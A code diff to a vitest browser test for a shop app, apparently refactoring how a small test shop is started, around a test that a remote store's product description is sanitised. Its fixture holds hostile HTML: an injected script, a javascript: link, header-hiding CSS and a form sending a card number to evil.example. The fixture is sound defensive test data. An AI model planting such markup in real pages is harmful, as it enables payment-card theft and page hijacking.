@@ -1,6 +1,6 @@
 import { afterAll, beforeAll, expect, test } from 'vitest';
 import { type ApiProxy, startApiProxy } from '#tests/support/browser/api-proxy.ts';
-import { startSmallShop } from '#tests/support/browser/shared-shops.ts';
+import { smallShop } from '#tests/support/browser/shared-shops.ts';
 import { newDataDir, type RunningShop, startShop } from '#tests/support/browser/shop-server.ts';
 import { desktop, openPage } from '#tests/support/browser/test-page.ts';
 
@@ -8,14 +8,12 @@ const hostile = `<p>Soft cotton.</p><script>document.title='taken over'</script>
   <style>.site-header{display:none}</style><form action="https://evil.example"><input name=card><button>Pay</button></form>
   <a href="javascript:document.title='taken over'" class="button primary">Buy</a><h1 id=content style="position:fixed">Sale</h1></div></main>`;
 
-let store: RunningShop;
 let proxy: ApiProxy;
 let site: RunningShop;
 /** The remote store's reply to facets. */
 let facets: (reply: unknown) => unknown = () => 404;
 beforeAll(async () => {
-  store = await startSmallShop();
-  proxy = await startApiProxy(store, (path, reply) => {
+  proxy = await startApiProxy(await smallShop(), (path, reply) => {
     if (path.startsWith('/product-facets')) return facets(reply);
     if (path.startsWith('/single-product-details')) {
       const { data, ...rest } = reply as { data: object };
@@ -38,7 +36,6 @@ beforeAll(async () => {
 afterAll(async () => {
   await site?.stop();
   await proxy?.stop();
-  await store?.stop();
 });
 
 test('a description from a remote store is sanitised', async () => {
